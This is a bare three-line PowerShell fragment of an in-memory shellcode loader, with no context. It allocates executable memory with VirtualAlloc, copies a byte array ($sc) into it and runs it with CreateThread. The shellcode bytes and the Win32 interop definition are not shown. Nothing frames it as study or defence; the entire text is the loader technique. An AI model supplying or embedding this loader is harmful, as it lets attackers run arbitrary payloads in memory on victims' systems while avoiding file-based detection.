$a = [Win32]::VirtualAlloc(0, $sc.Length, 0x3000, 0x40)
[System.Runtime.InteropServices.Marshal]::Copy($sc, 0, $a, $sc.Length)
[Win32]::CreateThread(0, 0, $a, 0, 0, 0)
